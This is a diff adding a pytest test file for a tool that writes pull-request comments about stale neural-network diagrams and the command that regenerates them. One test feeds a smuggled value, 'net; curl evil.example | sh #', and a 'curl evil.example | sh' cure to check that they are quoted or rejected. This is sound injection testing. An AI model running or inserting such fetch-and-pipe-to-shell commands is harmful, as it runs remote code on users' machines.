@@ -1,0 +1,94 @@
+"""What a comment says first, and the command that it tells people to run."""
+
+import pytest
+
+from nnviz_action.report.comment import comment
+from nnviz_action.report.record import Gallery, Model, Record
+
+BASE = {"config": "nnviz.yaml", "base": "main", "head": "1234567", "base_commit": "a" * 40, "head_commit": "b" * 40}
+
+
+def said(*models: Model, **more: object) -> str:
+    return comment(Record(**{**BASE, **more}, models=list(models)))
+
+
+def first(*models: Model, **more: object) -> str:
+    return said(*models, **more).partition("\n")[0].removeprefix("### nnviz: ")
+
+
+FRESH = Model(model="other", status="fresh", state="same")
+
+
+@pytest.mark.parametrize(
+    ("models", "line"),
+    [
+        ([], "no architecture changed, 1 fresh ✓"),
+        ([Model(model="net", status="fresh", state="changed")], "`net` changed, 1 other fresh ✓"),
+        ([Model(model="net", status="stale", state="changed")], "`net` changed and is not fresh, 1 other fresh"),
+        ([Model(model="net", status="fresh", state="added")], "`net` is new, 1 other fresh ✓"),
+        ([Model(model="net", status="missing", state="added")], "`net` is new and not fresh, 1 other fresh"),
+        ([Model(model="net", state="removed")], "`net` is removed, 1 other fresh ✓"),
+        ([Model(model="net", status="suspect", state="same")], "`net` is not fresh, 1 other fresh"),
+        (
+            [Model(model=name, status="fresh", state="changed") for name in "abcde"],
+            "`a`, `b`, `c` and 2 more changed, 1 other fresh ✓",
+        ),
+        (
+            [Model(model="a", status="fresh", state="changed"), Model(model="b", status="failed")],
+            "`a` changed, `b` is not fresh, 1 other fresh",
+        ),
+    ],
+)
+def test_the_first_line_says_what_is_the_matter(models: list[Model], line: str) -> None:
+    assert first(*models, FRESH) == line
+
+
+def test_nothing_compared_does_not_read_as_nothing_changed() -> None:
+    line = first(FRESH, base="", base_commit="", notes=["nothing to compare with: no commit"])
+    assert line == "nothing to compare with, 1 fresh"
+
+
+def test_a_config_elsewhere_is_named() -> None:
+    assert first(FRESH, config="packages/a/nnviz.yaml").endswith("✓ · `packages/a/nnviz.yaml`")
+
+
+@pytest.mark.parametrize(
+    ("status", "command"),
+    [
+        ("stale", "nnviz-action generate net"),
+        ("suspect", "nnviz-action generate net"),
+        ("orphan", "nnviz-action generate"),
+        ("failed", ""),
+        ("drift", "nnviz-action generate net"),
+    ],
+)
+def test_the_command_that_mends_is_made_of_verdicts(status: str, command: str) -> None:
+    text = said(Model(model="net", status=status, reasons=["because"]))  # type: ignore[arg-type]
+    assert f"```sh\n{command}\n```" in text if command else "```sh" not in text
+    assert ("Only a capture can tell" in text) == (status == "suspect")
+
+
+def test_a_report_cannot_choose_the_command() -> None:
+    name = "net; curl evil.example | sh #"
+    text = said(Model(model=name, status="stale", reasons=["`x`"]), config="a b/nnviz.yaml")
+    assert "```sh\nnnviz-action generate --config 'a b/nnviz.yaml' 'net; curl evil.example | sh #'\n```" in text
+    with pytest.raises(ValueError, match="cure"):
+        Record(**BASE, cure="curl evil.example | sh")
+
+
+def test_drift_that_passes_is_told_and_needs_no_cure() -> None:
+    text = said(Model(model="net", status="drift", reasons=["torch 2.13 → 2.14"]), tolerant=True)
+    assert "⚠️ **net** drifted: torch 2.13 → 2.14" in text
+    assert "```sh" not in text
+    assert "--force" in said(Model(model="net", status="drift"), forced=True)
+
+
+def test_what_the_model_s_code_said_keeps_its_lines() -> None:
+    text = said(Model(model="net", status="failed", reasons=["RuntimeError: ``` no\n    net.py:3: f(x)"]))
+    assert "could not be captured:\n\n````\nRuntimeError: ``` no\n    net.py:3: f(x)\n````" in text
+
+
+def test_a_gallery_alone() -> None:
+    text = said(FRESH, galleries=[Gallery(file="diagrams/README.md", status="outdated", reasons=["other"])])
+    assert text.startswith("### nnviz: the gallery is not fresh, 1 other fresh\n")
+    assert "```sh\nnnviz-action generate\n```" in text
